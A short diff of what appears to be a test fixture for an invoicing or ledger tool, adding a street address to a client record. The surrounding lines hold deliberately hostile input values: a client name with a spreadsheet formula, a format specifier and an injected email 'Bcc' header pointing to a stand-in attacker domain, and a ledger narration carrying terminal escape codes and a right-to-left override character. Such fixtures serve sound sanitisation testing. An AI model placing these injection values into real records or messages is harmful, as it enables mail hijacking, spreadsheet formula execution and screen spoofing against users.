@@ -46,6 +46,7 @@ Bcc: all@evil.example"
   name: "=HYPERLINK(1) %s
 Bcc: all@evil.example"
   email: "compta@martin.example"
+  address: "9 rue des Gabares, 44000 Nantes"
 2026-05-20 * "Martin" "%s\x1b]0;title\x07\x1b[2J\u202e" ^F1
   Assets:Clients:Martin  1200.00 EUR
   Income:Sales
